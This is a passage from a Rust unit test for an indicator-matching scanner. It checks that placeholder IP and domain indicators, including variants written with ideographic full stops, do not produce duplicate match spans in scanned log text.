        ("http://203.0.113.7/ http://evil.test/", "203.0.113.7\u{3002}evil.test/"),
        ("http://203.0.113.7/", "http://203.0.113.7\u{3002}"),
        ("http://203.0.113.7/", "203.0.113.7/x"),
        ("http://evil.test/", "evil.test\u{3002}x.test/"),
    ] {
        let mut spans = Vec::new();
        Scanner::new(&sieve(list)).scan(log.as_bytes(), |hit| {
            spans.extend(hit.matches().iter().map(|found| (hit.span(), found.indicator().to_string())));
            ControlFlow::Continue(())
        });
        let count = spans.len();
        spans.sort_by_key(|(span, indicator)| (span.start, span.end, indicator.clone()));
        spans.dedup();
        assert_eq!(spans.len(), count, "{list} in {log}: {spans:?}");
    }
}
